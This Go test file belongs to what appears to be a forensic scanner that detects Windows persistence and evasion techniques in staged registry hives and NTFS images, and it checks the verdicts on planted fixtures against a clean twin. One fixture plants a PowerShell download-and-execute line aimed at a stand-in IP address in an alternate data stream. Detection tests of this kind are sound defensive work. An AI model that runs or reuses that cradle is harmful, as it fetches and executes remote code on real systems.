package windows

import (
	"crypto/sha256"
	"encoding/hex"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/snapscan/snapscan/internal/ntfsimg"
	"github.com/snapscan/snapscan/report"
)

// evasionStages caches the staged windows-evasion trees (clean twin and
// planted), built once per test binary as make.sh would build them.
var evasionStages sync.Map // bool (planted) -> stagedResult

type stagedResult struct {
	dir string
	err error
}

var stageCleanups []string

// stagedEvasion copies the windows-evasion-clean tree (and, when planted,
// the windows-evasion tree over it) into a fresh directory and runs their
// hooks in that order, as make.sh does for SOURCE
// windows-evasion-clean+windows-evasion.
func stagedEvasion(t testing.TB, planted bool) string {
	for _, tool := range []string{"hivexregedit", "xz", "perl"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("needs %s to build the windows-evasion hives", tool)
		}
	}
	external(t, "hives/regipy/SAM.xz")
	if r, ok := evasionStages.Load(planted); ok {
		res := r.(stagedResult)
		if res.err != nil {
			t.Fatal(res.err)
		}
		return res.dir
	}
	root := repoRoot(t)
	dir, err := os.MkdirTemp("", "snapscan-windows-evasion-")
	if err != nil {
		t.Fatal(err)
	}
	stageCleanups = append(stageCleanups, dir)
	res := stagedResult{dir: dir}
	for _, tree := range evasionTrees(planted) {
		if out, err := exec.Command("cp", "-r", filepath.Join(root, "testdata/images/src", tree)+"/.", dir).CombinedOutput(); err != nil {
			res.err = &hookError{string(out), err}
		}
	}
	for _, tree := range evasionTrees(planted) {
		if res.err != nil {
			break
		}
		cmd := exec.Command("bash", "testdata/images/src/"+tree+".pre.sh", dir)
		cmd.Dir = root
		if out, err := cmd.CombinedOutput(); err != nil {
			res.err = &hookError{string(out), err}
		}
	}
	evasionStages.Store(planted, res)
	if res.err != nil {
		t.Fatal(res.err)
	}
	return dir
}

func evasionTrees(planted bool) []string {
	if planted {
		return []string{"windows-evasion-clean", "windows-evasion"}
	}
	return []string{"windows-evasion-clean"}
}

// TestEvasionTree scans the planted tree (real SAM and SYSTEM hives with
// the techniques planted by hivexregedit and libhivex) and holds it to
// windows-evasion.expect; the inventory lists every kind of record the
// evasion checks make.
func TestEvasionTree(t *testing.T) {
	s := runAll(t, targetFor(t, stagedEvasion(t, true)))
	if len(s.errors) != 0 {
		t.Errorf("scan errors: %v", s.errors)
	}
	assertSpec(t, s, "windows-evasion")
	kinds := map[string]int{}
	for _, i := range s.inventory {
		kinds[i.Kind]++
	}
	for _, k := range []string{"defender-exclusion", "defender-setting", "ifeo", "loadpoint", "account", "winlogon", "taskcache", "shell-profile", "wmi-consumer", "wmi-filter", "wmi-binding"} {
		if kinds[k] == 0 {
			t.Errorf("no inventory item of kind %s", k)
		}
	}
	fields := func(kind, keySuffix string) map[string]string {
		for _, i := range s.inventory {
			if i.Kind == kind && strings.HasSuffix(i.Fields["key"], keySuffix) {
				return i.Fields
			}
		}
		t.Errorf("no %s inventory item on %s", kind, keySuffix)
		return map[string]string{}
	}
	if f := fields("account", `\000003E9`); f["rid"] != "1001" || f["administrators"] != "true" || f["enabled"] != "true" || !strings.HasPrefix(f["sid"], "S-1-5-21-1760460187-") {
		t.Errorf("hidden account inventory: %v", f)
	}
	if f := fields("account", `\000001F5`); f["logon_rid"] != "500" || f["enabled"] != "true" {
		t.Errorf("hijacked Guest inventory: %v", f)
	}
	if f := fields("account", `\000003E8`); f["last_logon"] != "2014-09-30T02:59:34Z" || f["logon_count"] != "4" || f["administrators"] != "true" {
		t.Errorf("setup account inventory: %v", f)
	}
	if f := fields("defender-exclusion", `Paths\C:\Users\Public`); f["type"] != "paths" || f["verdict"] != "high" {
		t.Errorf("exclusion inventory: %v", f)
	}
	for _, i := range s.inventory {
		if i.Path == "/Windows/Tasks/WinSvcUpdate.job" && (i.Fields["hidden"] != "true" || i.Fields["triggers"] != "boot" || i.Fields["format"] != "job") {
			t.Errorf("legacy job inventory: %v", i.Fields)
		}
	}
	if f := fields("taskcache", `{A1B2C3D4-0000-4000-8000-000000000002}\Actions[1]`); f["hidden"] != "no SD" || f["program"] != `C:\ProgramData\WinSvcData\winsvc.exe` {
		t.Errorf("Tarrask task inventory: %v", f)
	}
	if f := fields("taskcache", `{A1B2C3D4-0000-4000-8000-000000000001}\Actions[1]`); f["xml"] == "" || f["hidden"] != "" {
		t.Errorf("registered Google task inventory: %v", f)
	}
	for _, i := range s.inventory {
		if strings.HasPrefix(i.Kind, "wmi-") && !strings.HasPrefix(i.Fields["method"], "content scan") {
			t.Errorf("WMI inventory does not say how the repository was read: %v", i.Fields)
		}
		if i.Kind == "wmi-binding" && i.Fields["consumer"] == "WinSvcUpdater" && i.Fields["filter"] != "WinSvcFilter" {
			t.Errorf("WMI binding: %v", i.Fields)
		}
	}
	if f := fields("ifeo", `AcroRd32.exe`); f["mitigation_only"] != "true" {
		t.Errorf("mitigation-only IFEO key: %v", f)
	}
	if f := fields("loadpoint", `Windows\AppInit_DLLs`); f["gate"] != "" || f["load_point"] != "appinit-dll" {
		t.Errorf("open AppInit_DLLs: %v", f)
	}
	if f := fields("loadpoint", `Wow6432Node\Microsoft\Windows NT\CurrentVersion\Windows\AppInit_DLLs`); !strings.HasPrefix(f["gate"], "LoadAppInit_DLLs is not 1") {
		t.Errorf("gated AppInit_DLLs: %v", f)
	}
}

// TestEvasionCleanTwin scans the clean twin alone: real stock accounts,
// LSA packages, BootExecute, print monitors and FailureCommands, stock
// Defender and Winlogon settings, mitigation-only IFEO keys. Nothing may
// reach medium, and the benign lines of the spec hold there too.
func TestEvasionCleanTwin(t *testing.T) {
	s := runAll(t, targetFor(t, stagedEvasion(t, false)))
	if len(s.errors) != 0 {
		t.Errorf("scan errors: %v", s.errors)
	}
	for _, f := range s.findings {
		if f.Severity >= report.Medium {
			t.Errorf("clean twin: %s %s on %s %s", f.Severity, f.Rule, f.Evidence.Path, f.Evidence.Key)
		}
	}
	benign := 0
	for _, x := range readExpect(t, "windows-evasion") {
		if x.severity != "ok" {
			continue
		}
		benign++
		found := false
		for _, i := range s.inventory {
			if i.Path == x.path && i.Fields["key"] == x.key {
				found = found || i.Fields["verdict"] == "ok"
			}
		}
		if !found {
			t.Errorf("expect line %d: %s not in the clean twin's inventory as ok", x.line, x.key)
		}
	}
	if benign < 10 || len(s.inventory) < 50 {
		t.Errorf("clean twin: %d benign spec lines, %d inventory items: the twin is not exercised", benign, len(s.inventory))
	}
}

// TestEvasionNTFSImages builds windows-evasion.img and its clean twin with
// make.sh (mkntfs, ntfs-3g; as root) into a temporary directory, scans them
// through our NTFS reader and requires the verdicts of the staged
// directories, with the images unchanged by the scan.
func TestEvasionNTFSImages(t *testing.T) {
	if testing.Short() {
		t.Skip("builds two NTFS images with make.sh")
	}
	if os.Geteuid() != 0 {
		t.Skip("make.sh needs root for the ntfs-3g mount")
	}
	for _, tool := range []string{"mkntfs", "ntfs-3g", "setfattr", "gzip"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("%s not installed (scripts/deps.sh)", tool)
		}
	}
	if m, _ := filepath.Glob("/usr/lib/*/faketime/libfaketimeMT.so.1"); len(m) == 0 {
		t.Skip("libfaketime not installed (scripts/deps.sh: faketime)")
	}
	stagedEvasion(t, true) // skips without hivex or the external hives
	root := repoRoot(t)
	out := t.TempDir()
	cmd := exec.Command("bash", "testdata/images/make.sh", "windows-evasion-clean.img", "windows-evasion.img")
	cmd.Dir = root
	cmd.Env = append(os.Environ(), "TESTIMG_CONF=testdata/images/windows-evasion.conf", "TESTIMG_OUT="+out, "KEEP=1")
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("make.sh: %v\n%s", err, b)
	}
	for _, planted := range []bool{false, true} {
		name := "windows-evasion-clean.img"
		if planted {
			name = "windows-evasion.img"
		}
		t.Run(name, func(t *testing.T) {
			img := filepath.Join(out, "out", name)
			before := fileSHA(t, img)
			got := scanNTFS(t, img)
			if after := fileSHA(t, img); after != before {
				t.Errorf("the scan changed %s", name)
			}
			want := runAll(t, targetFor(t, stagedEvasion(t, planted)))
			if len(got.errors) != 0 {
				t.Errorf("errors reading the NTFS image: %v", got.errors)
			}
			g, w := verdicts(got), verdicts(want)
			if strings.Join(g, "\n") != strings.Join(w, "\n") {
				t.Errorf("NTFS and directory scans differ:\nNTFS:\n%s\ndir:\n%s", strings.Join(g, "\n"), strings.Join(w, "\n"))
			}
			if len(got.inventory) != len(want.inventory) {
				t.Errorf("inventory: %d items on NTFS, %d from the directory", len(got.inventory), len(want.inventory))
			}
		})
	}

	t.Run("streams", func(t *testing.T) { evasionStreams(t, filepath.Join(out, "out", "windows-evasion.img")) })
}

// evasionStreams adds alternate data streams to a copy of the planted image
// through an ntfs-3g mount (streams are user.* extended attributes there)
// and holds the streams check to them: an executable and a script hidden in
// streams are high, a Zone.Identifier is decoded into the inventory only.
func evasionStreams(t *testing.T, src string) {
	img := filepath.Join(t.TempDir(), "ads.img")
	if b, err := exec.Command("cp", src, img).CombinedOutput(); err != nil {
		t.Fatalf("cp: %v %s", err, b)
	}
	ntfsimg.Write(t, img, nil, []ntfsimg.Stream{
		{File: "ProgramData/WinSvcData/config.json", Name: "svc.exe", Data: "MZ\x90\x00 stand-in for a program hidden in a stream"},
		{File: "Windows/System32/Tasks/GoogleUpdateTaskMachineCore{CF8953F0-7413-4BC6-94A3-B0282ACC3AE4}", Name: "payload.ps1", Data: "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/x')"},
		{File: "Users/Preston/Documents/WindowsPowerShell/Microsoft.PowerShell_profile.ps1", Name: "Zone.Identifier", Data: "[ZoneTransfer]\r\nZoneId=3\r\nHostUrl=https://example.org/profile.ps1\r\n"},
	})
	got := scanNTFS(t, img)
	if len(got.errors) != 0 {
		t.Errorf("errors: %v", got.errors)
	}
	want := map[string]string{
		"/ProgramData/WinSvcData/config.json :svc.exe":                                                           "stream.exec-stream=high",
		"/Windows/System32/Tasks/GoogleUpdateTaskMachineCore{CF8953F0-7413-4BC6-94A3-B0282ACC3AE4} :payload.ps1": "stream.download=medium stream.download-exec=high stream.exec-stream=high stream.invoke-expression=medium",
	}
	gotRules := map[string][]string{}
	for _, f := range got.sorted() {
		if f.Check == "streams" {
			k := f.Evidence.Path + " " + f.Evidence.Key
			gotRules[k] = append(gotRules[k], f.Rule+"="+f.Severity.String())
			if f.Technique == "" || f.Evidence.SHA256 == "" || f.Remediation == "" {
				t.Errorf("%s: incomplete finding %+v", k, f)
			}
		}
	}
	for k, w := range want {
		if g := strings.Join(gotRules[k], " "); g != w {
			t.Errorf("%s: %q, want %q", k, g, w)
		}
	}
	if len(gotRules) != len(want) {
		t.Errorf("stream findings on %v, want only %v", gotRules, want)
	}
	zone := false
	for _, i := range got.inventory {
		if i.Kind == "stream" && i.Fields["stream"] == "Zone.Identifier" {
			zone = i.Fields["zone"] == "internet" && i.Fields["host_url"] == "https://example.org/profile.ps1" && i.Fields["verdict"] == "ok"
		}
	}
	if !zone {
		t.Errorf("Zone.Identifier not decoded into the inventory")
	}
}

func fileSHA(t *testing.T, p string) string {
	f, err := os.Open(p)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	h := sha256.New()
	if _, err := io.Copy(h, f); err != nil {
		t.Fatal(err)
	}
	return hex.EncodeToString(h.Sum(nil))
}

// TestChecksRegistry: every Windows check is registered once, for Windows,
// under its own name (the Linux checks have an "accounts" of their own).
func TestChecksRegistry(t *testing.T) {
	seen := map[string]bool{}
	for _, c := range Checks() {
		if c.OS() != "windows" || c.Name() == "" || seen[c.Name()] {
			t.Errorf("check %T: name %q os %q", c, c.Name(), c.OS())
		}
		seen[c.Name()] = true
	}
	want := []string{"runkeys", "services", "tasks", "startup", "hosts", "defender", "ifeo", "loadpoints", "sam-accounts", "taskcache", "profiles", "streams", "wmi"}
	if len(seen) != len(want) {
		t.Errorf("%d checks registered, want %d", len(seen), len(want))
	}
	for _, n := range want {
		if !seen[n] {
			t.Errorf("check %s not registered", n)
		}
	}
}
